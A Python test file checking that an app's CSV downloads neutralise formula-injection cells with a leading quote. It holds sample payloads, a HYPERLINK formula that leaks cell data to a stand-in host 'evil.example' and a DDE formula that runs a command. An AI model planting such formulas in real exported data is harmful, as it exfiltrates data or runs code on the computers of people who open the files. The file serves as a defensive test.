"""CSV exports for people: cells a spreadsheet would run as formulas are neutralised, in every page's download."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta

import numpy as np
import pandas as pd
import pytest
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from tests.conftest import REPO
from tests.test_app_overview import use_server
from ui.export import neutralise, spreadsheet_csv

LINK = '=HYPERLINK("http://evil.example/?leak=" & A2, "open")'
CMD = "=cmd|' /C calc'!A0"


def cells(text: str) -> list[list[str]]:
    """The rows of CSV text, as a spreadsheet would split them."""
    return list(csv.reader(io.StringIO(text)))


def test_text_that_would_run_as_a_formula_gets_a_leading_quote():
    frame = pd.DataFrame({
        "text": [LINK, CMD, "@SUM(1)", "-2+3", "+1", "\tx", "\r=1", "plain", "a=b", "'quoted", "", "x\r=1"],
        "number": [-2, -1, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9],
    })
    text = spreadsheet_csv(frame)
    header, *rows = cells(text)
    assert header == ["text", "number"]
    assert [row[0] for row in rows] == ["'" + LINK, "'" + CMD, "'@SUM(1)", "'-2+3", "'+1", "'\tx", "'\r=1",
                                        "plain", "a=b", "'quoted", "", "x\r=1"]
    assert [row[1] for row in rows] == [str(n) for n in range(-2, 10)]  # numbers stay numbers, negative ones too
    assert '"x\r=1"' in text  # quoted: a carriage return inside a cell starts no row of its own


def test_numbers_stay_numbers_and_headers_are_neutralised_too():
    frame = pd.DataFrame({"=1+1": [-2.5, None], "-amount": [np.int64(-7), np.float64(-0.5)], "ok": [True, None]})
    header, *rows = cells(spreadsheet_csv(frame))
    assert header == ["'=1+1", "'-amount", "ok"]
    assert rows == [["-2.5", "-7.0", "True"], ["", "-0.5", ""]]


@pytest.mark.parametrize(("value", "shown"), [
    (-3, -3), (-3.5, -3.5), (np.int64(-3), np.int64(-3)), (True, True), (None, None),
    ("-3", "'-3"), ("=A1", "'=A1"), ("x", "x"),
    (timedelta(days=-1), "'-1 day, 0:00:00"),  # any other value is judged by the text the CSV holds for it
])
def test_neutralise(value, shown):
    assert neutralise(value) == shown


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, Callable[[], str]]:
    """The files the pages' download buttons give, by file name: each a function returning the file's text.

    The real media file manager of streamlit.testing is kept; what it is handed is noted on the way.
    """
    files: dict[str, Callable[[], str]] = {}
    add, add_deferred = MediaFileManager.add, MediaFileManager.add_deferred

    def text(data: bytes | str) -> str:
        return data.decode() if isinstance(data, bytes) else data

    def noting_add(self, data, mimetype, coordinates, file_name=None, **kwargs):
        files[file_name] = lambda: text(data)
        return add(self, data, mimetype, coordinates, file_name=file_name, **kwargs)

    def noting_add_deferred(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        files[file_name] = lambda: text(data_callable())
        return add_deferred(self, data_callable, mimetype, coordinates, file_name=file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add", noting_add)
    monkeypatch.setattr(MediaFileManager, "add_deferred", noting_add_deferred)
    return files


def page(name: str, state: dict[str, str] | None = None, **query: str) -> AppTest:
    app = AppTest.from_file(str(REPO / "ui" / f"{name}.py"), default_timeout=60)
    for key, value in (state or {}).items():
        app.session_state[key] = value
    for key, value in query.items():
        app.query_params[key] = value
    app.run()
    assert not app.exception
    return app


# The Supply risk page's story, with names an attacker chose: ABC supplies all of XYZ's steel,
# XYZ supplies all of OEM's brakes.
SUPPLY = """
CREATE (abc:Company:Supplier {companyId: 'c-abc', name: $link, region: 'Midwest'})
CREATE (xyz:Company:Supplier {companyId: 'c-xyz', name: '@SUM(1)', region: 'Midwest'})
CREATE (oem:Company {companyId: 'c-oem', name: '-2+3', region: 'Great Lakes'})
CREATE (abc)-[:SUPPLIES {sku: 'steel-sheet', sharePct: 100.0}]->(xyz)
CREATE (xyz)-[:SUPPLIES {sku: 'brake', sharePct: 100.0}]->(oem)
CREATE (:Person:Customer {personId: 'p-1', name: '+1 555 0100'})-[:PLACED]->
       (:Order {orderId: 'o1', total: 1000.0})-[:SOLD_BY]->(oem)
"""


def by_id(text: str) -> dict[str, dict[str, str]]:
    header, *rows = cells(text)
    return {row[header.index("id")]: dict(zip(header, row, strict=True)) for row in rows}


def test_the_supplier_ranking_download(db, neo4j_settings, monkeypatch, downloads):
    use_server(monkeypatch, neo4j_settings)
    db.write(SUPPLY, {"link": LINK})
    page("risk")
    ranking = by_id(downloads["supplier-ranking.csv"]())
    assert ranking["c-abc"]["name"] == "'" + LINK and ranking["c-xyz"]["name"] == "'@SUM(1)"
    assert ranking["c-abc"]["impacted"] == "2" and float(ranking["c-abc"]["revenue_at_risk"]) == 1000.0


def test_the_cascade_download(db, neo4j_settings, monkeypatch, downloads):
    use_server(monkeypatch, neo4j_settings)
    db.write(SUPPLY, {"link": LINK})
    page("risk", disrupt="c-abc")
    cascade = by_id(downloads["cascade.csv"]())
    assert {id_: row["name"] for id_, row in cascade.items()} == {
        "c-abc": "'" + LINK, "c-xyz": "'@SUM(1)", "c-oem": "'-2+3"}
    assert (cascade["c-oem"]["round"], float(cascade["c-oem"]["max_loss"])) == ("2", 1.0)


def test_the_referrers_download(db, neo4j_settings, monkeypatch, downloads):
    use_server(monkeypatch, neo4j_settings)
    db.write("""
        CREATE (a:Person:Customer {personId: 'p-a', name: $cmd})-[:REFERRED {converted: true}]->
               (b:Person {personId: 'p-b', name: $tab})
        CREATE (b)-[:REFERRED {converted: true}]->(:Person {personId: 'p-c', name: 'Cat'})
        """, {"cmd": CMD, "tab": "\tBen"})
    page("reach", {"reach-tab": "Influencers"})
    referrers = by_id(downloads["referrers.csv"]())
    assert {id_: row["name"] for id_, row in referrers.items()} == {"p-a": "'" + CMD, "p-b": "'\tBen", "p-c": "Cat"}
    assert referrers["p-a"]["cascade_size"] == "2"


def test_the_cypher_result_download(db, neo4j_settings, monkeypatch, downloads):
    use_server(monkeypatch, neo4j_settings)
    app = page("cypher")
    app.session_state["cypher-text"] = (  # what the editor component leaves in the session
        "RETURN '=HYPERLINK(\"http://evil.example/?leak=\" & A2, \"open\")' AS link, '@SUM(1)' AS at, "
        "'-2+3' AS minus, '+1' AS plus, '\\tx' AS tab, -2 AS negative, -1.5 AS fraction, 'plain' AS text, "
        "1 AS `=1+1`")
    app.button(key="cypher-run").click()
    app.run()
    assert not app.exception
    [header, row] = cells(downloads["query.csv"]())
    assert dict(zip(header, row, strict=True)) == {
        "link": "'" + LINK, "at": "'@SUM(1)", "minus": "'-2+3", "plus": "'+1", "tab": "'\tx",
        "negative": "-2", "fraction": "-1.5", "text": "plain", "'=1+1": "1"}
